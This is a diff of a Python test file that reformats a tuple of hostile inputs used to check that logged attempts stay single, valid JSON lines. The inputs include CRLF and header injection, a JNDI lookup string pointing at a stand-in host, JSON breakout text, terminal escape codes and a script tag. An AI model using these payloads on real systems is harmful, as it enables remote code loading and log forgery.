@@ -41,9 +41,16 @@ def test_row_17_a_flood_of_garbage_is_one_line(start: Starter, upstream: FakeUps
 
 
 HOSTILE = (
-    "a\\r\\nevil: 1", "${jndi:ldap://evil.example/x}", '"},{"outcome":"fake', "%0d%0aevil", "\x1b[31mevil", "a\x7f evil",
-    "<script>evil</script>", "\u202elive", "x" * 4000,
-)  # fmt: skip
+    "a\\r\\nevil: 1",
+    "${jndi:ldap://evil.example/x}",
+    '"},{"outcome":"fake',
+    "%0d%0aevil",
+    "\x1b[31mevil",
+    "a\x7f evil",
+    "<script>evil</script>",
+    "\u202elive",
+    "x" * 4000,
+)
 
 
 def test_row_27_every_attempt_is_one_valid_line_of_json_whatever_its_names_are(
